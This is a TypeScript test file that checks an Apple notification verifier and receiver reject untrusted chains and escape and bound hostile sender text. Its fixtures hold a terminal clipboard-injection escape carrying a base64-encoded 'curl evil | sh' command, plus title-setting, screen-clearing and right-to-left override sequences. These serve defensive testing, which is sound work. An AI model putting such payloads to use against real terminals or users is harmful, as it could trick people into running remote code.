import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { performance } from 'node:perf_hooks'
import {
  createAppleTester,
  createNotificationHandler,
  createSignedPayloadVerifier,
  type AppleNotificationPayload,
} from '@notiprobe/apple'
import { isNotificationTestError, type NotificationTestError } from '@notiprobe/core'
import { afterEach, describe, expect, it } from 'vitest'
import {
  makeChain,
  signPayload,
  testNotification,
  type TestChain,
} from '../../packages/apple/test/helpers/certificates.js'
import { makeKey, testerOptions } from '../../packages/apple/test/helpers/keys.js'

// Issue 11, defects 2 and 4 for Apple: the verifier and the receiver do the cheap, decisive checks
// (size, shape, chain to a trusted root, signature) before describing anything the sender chose,
// and then only escaped and bounded; every time and number from Apple is range-checked where it
// enters, so an impossible one is `invalid_response`, never a RangeError.

const ESC = '\u001b'
const trusted = makeChain()
const options = {
  bundleId: 'com.example.app',
  environment: 'Sandbox',
  rootCertificates: [trusted.root.pem],
} as const

/** A chain no one trusts, every name in it chosen by the attacker: large, and full of escapes. */
function hostileChain(): TestChain {
  const name = (label: string) =>
    `${label}${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007${'eyJ<'.repeat(1500)}`
  return makeChain({
    root: { name: name('root') },
    intermediate: { name: name('intermediate') },
    leaf: { name: name('leaf') },
  })
}

/** The error a promise is refused with; a test failure if it resolves or throws something else. */
async function refusal(promise: Promise<unknown>): Promise<NotificationTestError> {
  const error = await promise.then(
    () => {
      throw new Error('expected a refusal')
    },
    (e: unknown) => e,
  )
  if (!isNotificationTestError(error)) throw new Error('expected a NotificationTestError')
  return error
}

function noSenderText(error: NotificationTestError): void {
  const controls = Array.from({ length: error.message.length }, (_, i) =>
    error.message.charCodeAt(i),
  ).filter((code) => code < 0x20 || (code >= 0x7f && code <= 0x9f))
  expect(controls).toEqual([])
  expect(error.message).not.toContain('eyJ<')
  expect(error.message.length).toBeLessThan(600)
}

const servers: Server[] = []
afterEach(async () => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections()
    await new Promise((resolve) => server.close(resolve))
  }
})

async function serve(handler: Parameters<typeof createServer>[1]): Promise<string> {
  const server = createServer(handler)
  servers.push(server)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

describe('the verifier describes nothing the sender chose before the chain is trusted', () => {
  it('names no certificate of an untrusted chain, however hostile its names', async () => {
    const chain = hostileChain()
    const jws = await signPayload(testNotification(), chain.leaf.privateKey, [
      chain.leaf,
      chain.intermediate,
      chain.root,
    ])
    const error = await refusal(createSignedPayloadVerifier(options).verify(jws))

    expect(error).toMatchObject({
      kind: 'verification',
      message:
        'Signed payload rejected: x5c[1] (intermediate) is not issued and signed by a trusted root.',
    })
    noSenderText(error)
  })

  it('escapes and bounds what it quotes: an alg, a bundle id, a type', async () => {
    const verifier = createSignedPayloadVerifier(options)
    const sign = (payload: unknown, header: Record<string, unknown> = {}) =>
      signPayload(
        payload,
        trusted.leaf.privateKey,
        [trusted.leaf, trusted.intermediate, trusted.root],
        header,
      )
    // jose signs only known algs: the hostile header is built by hand.
    const [, payload, signature] = (await sign(testNotification())).split('.')
    const header = Buffer.from(
      JSON.stringify({ alg: `${ESC}[2J${'x'.repeat(100_000)}`, x5c: [] }),
    ).toString('base64url')
    const badAlg = await refusal(verifier.verify([header, payload, signature].join('.')))
    expect(badAlg.message).toContain('\\u001b[2J')
    noSenderText(badAlg)
    expect(badAlg.message.length).toBeLessThan(200)

    const bundle = await refusal(
      verifier.verify(
        await sign(
          testNotification({}, { bundleId: `evil${ESC}]0;pwned\u0007\u202e${'b'.repeat(1000)}` }),
        ),
      ),
    )
    expect(bundle.message).toMatch(
      /^Signed payload rejected: the payload is for bundle id "evil\\u001b\]0;pwned\\u0007\\u202eb+…", not "com\.example\.app"\.$/,
    )
    expect(bundle.message.length).toBeLessThan(400)
  })

  it('takes time linear in the size of what it refuses', async () => {
    const chain = hostileChain()
    const x5c = [chain.leaf, chain.intermediate, chain.root]
    const verifier = createSignedPayloadVerifier(options)
    const timeOf = async (bytes: number): Promise<number> => {
      const jws = await signPayload(
        testNotification({ padding: '<'.repeat(bytes) }),
        chain.leaf.privateKey,
        x5c,
      )
      const runs: number[] = []
      for (let i = 0; i < 7; i++) {
        const started = performance.now()
        await verifier.verify(jws).catch(() => undefined)
        runs.push(performance.now() - started)
      }
      return runs.sort((a, b) => a - b)[3] ?? 0
    }
    await timeOf(1000) // warm up: the certificate code loads on first use
    const small = await timeOf(20_000)
    const large = await timeOf(200_000)
    // Ten times the input: linear work takes about ten times as long, quadratic a hundred.
    expect(large / Math.max(small, 0.05)).toBeLessThan(40)
  })
})

describe('the receiver under a hostile sender, without credentials', () => {
  it('answers 400 to every hostile chain, fast, hands nothing on, and reports only bounded, escaped text', async () => {
    const received: AppleNotificationPayload[] = []
    const refused: NotificationTestError[] = []
    const handler = createNotificationHandler({
      ...options,
      onNotification: (n) => {
        received.push(n)
      },
      onError: (e) => refused.push(e),
    })
    const url = await serve((req, res) => void handler(req, res))
    const chain = hostileChain()
    const jws = await signPayload(testNotification(), chain.leaf.privateKey, [
      chain.leaf,
      chain.intermediate,
      chain.root,
    ])
    const started = performance.now()
    const statuses = await Promise.all(
      Array.from({ length: 20 }, () =>
        fetch(url, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ signedPayload: jws }),
        }).then((r) => r.status),
      ),
    )
    const elapsed = performance.now() - started
    expect(statuses).toEqual(Array(20).fill(400))
    expect(received).toEqual([])
    expect(refused).toHaveLength(20)
    for (const error of refused) noSenderText(error)
    // 20 requests of ~45 KB each; a quadratic pattern on the names took seconds per request.
    expect(elapsed).toBeLessThan(10_000)
  })
})

describe('numbers from Apple outside their range are invalid_response, never a RangeError', () => {
  const ticket = {
    vendor: 'apple',
    id: '0f6b9a44-8d2c-4c1e-9a51-3c3f1d1e2a10_1757035472000',
    requestedAt: 0,
  } as const

  it.each([
    [
      'attemptDate: 1e20',
      {
        signedPayload: 'a.b.c',
        sendAttempts: [{ attemptDate: 1e20, sendAttemptResult: 'SUCCESS' }],
      },
    ],
    [
      'attemptDate: -1',
      { signedPayload: 'a.b.c', sendAttempts: [{ attemptDate: -1, sendAttemptResult: 'SUCCESS' }] },
    ],
    [
      'attemptDate: 1.5',
      {
        signedPayload: 'a.b.c',
        sendAttempts: [{ attemptDate: 1.5, sendAttemptResult: 'SUCCESS' }],
      },
    ],
  ])('check() with %s', async (_name, body) => {
    const url = await serve((req, res) => {
      req.resume()
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body))
    })
    const tester = createAppleTester({
      ...testerOptions(makeKey()),
      baseUrl: url,
      rateLimits: 'off',
    })
    try {
      const error = await tester.check(ticket).catch((e: unknown) => e)
      expect(isNotificationTestError(error)).toBe(true)
      expect(error).toMatchObject({ kind: 'invalid_response', httpStatus: 200 })
    } finally {
      tester.close()
    }
  })

  it.each([
    ['successRate: 1e20', { result: 'PASS', successRate: 1e20 }],
    ['responseTimes.p95: 1e300', { result: 'PASS', responseTimes: { p95: 1e300 } }],
    ['numPending: -3', { result: 'PENDING', numPending: -3 }],
    [
      'failures.TIMED_OUT: 1e400 (Infinity in JSON is invalid; a huge count)',
      { result: 'FAIL', failures: { TIMED_OUT: 2 ** 60 } },
    ],
  ])('getPerformanceTestResults() with %s', async (_name, body) => {
    const url = await serve((req, res) => {
      req.resume()
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body))
    })
    const tester = createAppleTester({
      ...testerOptions(makeKey()),
      baseUrl: url,
      rateLimits: 'off',
    })
    try {
      await expect(
        tester.getPerformanceTestResults('5f0e3a3e-6a8c-4f7a-9a6e-0d8e3f7a1b2c'),
      ).rejects.toMatchObject({ kind: 'invalid_response' })
    } finally {
      tester.close()
    }
  })

  it('a verified payload whose signedDate no Date can hold is refused before its chain is read', async () => {
    const jws = await signPayload(testNotification({ signedDate: 1e20 }), trusted.leaf.privateKey, [
      trusted.leaf,
      trusted.intermediate,
      trusted.root,
    ])
    await expect(createSignedPayloadVerifier(options).verify(jws)).rejects.toMatchObject({
      kind: 'verification',
      message:
        'Signed payload rejected: the payload has no signing date (epoch milliseconds) to check the certificates at.',
    })
  })
})
